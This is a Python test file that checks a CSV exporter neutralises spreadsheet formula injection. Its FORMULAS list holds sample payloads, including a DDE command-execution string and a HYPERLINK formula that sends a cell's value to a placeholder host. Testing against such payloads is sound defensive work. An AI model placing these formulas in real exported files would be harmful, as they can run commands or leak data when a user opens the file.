"""A spreadsheet takes nothing in our CSV for a formula, and no cell begins a row of its own."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapter.reports.tabular import to_csv

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "|cmd", "%0A=1", "＝1+1", "＋1", "－1", "＠SUM",
    '=HYPERLINK("http://h/?x="&A1,"Sở Nội vụ")', "=cmd|' /C calc'!A0", "\u00a0=1", "\u200b=1", "\u202e=1", "\x00=1",
)  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_would_run_is_written_as_text(formula: str) -> None:
    written = to_csv([[formula, "x"]])
    ((first, second),) = csv.reader(StringIO(written))
    assert first.startswith(("'", "\\u")), first
    assert second == "x"
    assert written.count("\n") == 1


@given(st.lists(st.lists(st.text() | st.integers(), min_size=1, max_size=4), max_size=5))
def test_rows_stay_rows_and_nothing_steers(rows: list[list[str | int]]) -> None:
    written = to_csv(rows)
    assert len(list(csv.reader(StringIO(written)))) == len(rows)
    assert written.count("\n") == len(rows)
    assert all(char.isprintable() or char in "\r\n" or char.isspace() for char in written)
    for row, read in zip(rows, csv.reader(StringIO(written)), strict=True):
        for cell, text in zip(row, read, strict=True):
            if isinstance(cell, int):
                assert text == str(cell)
            else:
                assert not text.lstrip().startswith(tuple("=+-@|%"))


def test_ordinary_text_is_left_alone() -> None:
    assert to_csv([["Sở Nội vụ", "5425/UBND-KGVX", -3]]) == "Sở Nội vụ,5425/UBND-KGVX,-3\r\n"
